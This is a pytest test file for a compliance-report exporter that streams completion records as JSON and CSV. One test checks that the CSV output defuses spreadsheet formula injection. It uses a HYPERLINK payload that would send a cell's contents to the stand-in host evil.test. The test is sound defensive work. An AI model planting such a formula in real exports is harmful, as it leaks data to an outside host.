"""The compliance report: each completion with the whole chain that proves it, streamed, safe in a spreadsheet."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import gc
import io
import json
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from sqlalchemy import insert, select

from bridge.domain.events import BusinessEvent
from bridge.flows import accept_event, configure, decide_prompts, open_launch, record_outcome, report
from bridge.flows.report import CompletionRow
from bridge.flows.runtime import Runtime
from bridge.store import tables
from tests.flows.conftest import organise

DAY = dt.datetime(2026, 1, 2, tzinfo=dt.UTC)
Make = Callable[..., BusinessEvent]


def completed(runtime: Runtime, event: BusinessEvent, at: dt.datetime, **parts: object) -> uuid.UUID:
    """An event comes in, is prompted, opened and completed; returns the launch's id."""
    accept_event.accept(runtime, "desk", [event])
    decide_prompts.decide(runtime)
    with runtime.db.read() as session:
        prompt = session.scalars(select(tables.Prompt).where(tables.Prompt.event.has(external_id=event.id))).one()
    opened = open_launch.open_prompt(runtime, prompt.id, prompt.person_id or 0)
    values = {"source": "page", "verb": "completed", "completed": True, **parts}
    record_outcome.record(runtime, opened.launch_id, occurred_at=at, **values)  # type: ignore[arg-type]
    return opened.launch_id


@pytest.fixture
def three(organised: Runtime, event: Make) -> Runtime:
    """One completion on each of three days."""
    for number in range(3):
        completed(organised, event(id=f"e{number}", subject=f"opportunity/{number}"), DAY + dt.timedelta(days=number))
    return organised


def test_a_row_holds_the_whole_chain(organised: Runtime, event: Make, tmp_path: Path) -> None:
    lrs = tmp_path / "lrs.yaml"
    lrs.write_text(
        "connections: [{name: records, connector: lrs, config: {endpoint: http://lrs.test/xapi, key: k, secret: s}}]"
    )
    configure.apply(organised, lrs)
    launch = completed(organised, event(), DAY, success=True, score=0.75)
    (row,) = report.completions(organised)
    with organised.db.read() as session:
        outcome = session.scalars(select(tables.Outcome).where(tables.Outcome.launch_id == launch)).one()
        statement = session.scalars(select(tables.Statement).where(tables.Statement.outcome_id == outcome.id)).one()
        prompt = session.scalars(select(tables.Prompt)).one()
    assert dataclasses.asdict(row) == {
        "completed_at": "2026-01-02T00:00:00.000Z",
        "person": "E001",
        "person_name": "Sam Seller",
        "asset": "guides/pricing.md",
        "asset_title": "Pricing for enterprises",
        "success": True,
        "score": 0.75,
        "event": str(prompt.event_id),
        "event_type": "desk.opportunity.created",
        "subject": "opportunity/42",
        "rule": "enterprise-pricing",
        "rule_version": 1,
        "prompt": str(prompt.id),
        "launch": str(launch),
        "outcome": str(outcome.id),
        "statement": str(statement.id),
        "lrs": "records: waiting",
        "written_back": "",
    }
    with organised.db.write() as session:
        connection = session.scalars(select(tables.Outbox.connection_id)).first()
        session.add(
            tables.StatementReceipt(statement_seq=statement.seq, connection_id=connection, state="rejected", error="no")
        )
        waiting = select(tables.Outbox).where(tables.Outbox.statement_seq == statement.seq)
        session.delete(session.scalars(waiting).one())
        session.add(tables.WriteBack(outcome_id=outcome.id, connection_id=connection, state="recorded"))
    (row,) = report.completions(organised)
    assert (row.lrs, row.written_back) == ("records: rejected", "guides: recorded")


def test_progress_is_no_completion(organised: Runtime, event: Make) -> None:
    completed(organised, event(), DAY, verb="progressed", completed=False)
    assert list(report.completions(organised)) == []


@pytest.mark.parametrize(
    ("since", "until", "days"),
    [
        (None, None, [2, 3, 4]),
        (DAY, None, [2, 3, 4]),
        (DAY + dt.timedelta(days=1), None, [3, 4]),
        (None, DAY + dt.timedelta(days=1), [2]),
        (DAY, DAY, []),
        # The same moment, said in another zone.
        (dt.datetime(2026, 1, 3, 5, tzinfo=dt.timezone(dt.timedelta(hours=5))), None, [3, 4]),
    ],
)
def test_from_a_time_on_and_up_to_another(
    three: Runtime, since: dt.datetime | None, until: dt.datetime | None, days: list[int]
) -> None:
    assert [int(row.completed_at[8:10]) for row in report.completions(three, since, until)] == days


def test_as_json_it_is_one_array(three: Runtime, organised: Runtime) -> None:
    rows = json.loads("".join(report.as_json(report.completions(three))))
    assert [row["completed_at"][:10] for row in rows] == ["2026-01-02", "2026-01-03", "2026-01-04"]
    assert list(rows[0]) == list(report.FIELDS)
    assert json.loads("".join(report.as_json(report.completions(organised, DAY + dt.timedelta(days=9))))) == []


def test_as_csv_it_has_a_head_and_one_line_for_each(three: Runtime) -> None:
    text = "".join(report.as_csv(report.completions(three)))
    lines = list(csv.DictReader(io.StringIO(text)))
    assert [line["subject"] for line in lines] == ["opportunity/0", "opportunity/1", "opportunity/2"]
    assert text.startswith(",".join(report.FIELDS) + "\r\n")


ROW = CompletionRow(
    **{name: "" for name in report.FIELDS if name not in ("success", "score", "rule_version")},  # type: ignore[arg-type]
    success=None,
    score=-0.5,
    rule_version=1,
)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_spreadsheet_runs_nothing_that_came_with_an_event(start: str) -> None:
    hostile = f'{start}HYPERLINK("http://evil.test?x="&A1,"open")'
    row = dataclasses.replace(ROW, subject=hostile, person_name=hostile, asset_title='a "quoted", title\nin two lines')
    (shown,) = csv.DictReader(io.StringIO("".join(report.as_csv(iter([row])))))
    assert shown["subject"] == shown["person_name"] == f"'{hostile}"
    assert shown["asset_title"] == 'a "quoted", title\nin two lines'
    assert shown["score"] == "-0.5", "a number is one"
    assert json.loads("".join(report.as_json(iter([row]))))[0]["subject"] == hostile


def test_pieces_come_as_the_rows_do() -> None:
    taken: list[int] = []

    def rows() -> Iterator[CompletionRow]:
        for number in range(3):
            taken.append(number)
            yield ROW

    pieces = report.as_csv(rows())
    assert next(pieces).startswith("completed_at,")
    assert taken == []
    next(pieces)
    assert taken == [0]
    pieces = report.as_json(rows())
    assert (next(pieces), taken) == ("[", [0])


def test_rows_that_were_given_out_are_not_kept(
    organised: Runtime, event: Make, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(report, "_CHUNK", 20)
    _many_more(organised, completed(organised, event(), DAY), 399)
    most = count = 0
    for row in report.completions(organised):
        count += 1
        if count % 100 == 0:
            assert row.outcome
            most = max(most, sum(isinstance(thing, tables.Outcome) for thing in gc.get_objects()))
    assert count == 400
    assert most <= 3 * 20


@pytest.mark.postgres
def test_the_same_on_postgresql(pg_runtime: Runtime, guides: Path, tmp_path: Path, event: Make) -> None:
    organise(pg_runtime, guides, tmp_path)
    launch = completed(pg_runtime, event(), DAY, score=0.5)
    _many_more(pg_runtime, launch, 1200)
    rows = report.completions(pg_runtime, DAY, DAY + dt.timedelta(seconds=1))
    first = next(rows)
    assert (first.person, first.score, first.completed_at) == ("E001", 0.5, "2026-01-02T00:00:00.000Z")
    assert sum(1 for _ in rows) == 1000 - 1


def _many_more(runtime: Runtime, launch: uuid.UUID, count: int) -> None:
    """Outcomes of a launch, a millisecond apart."""
    rows = [
        {
            "id": uuid.uuid4(),
            "launch_id": launch,
            "source": "page",
            "verb": "completed",
            "completed": True,
            "occurred_at": DAY + dt.timedelta(milliseconds=number + 1),
        }
        for number in range(count)
    ]
    with runtime.db.write() as session:
        session.execute(insert(tables.Outcome), rows)
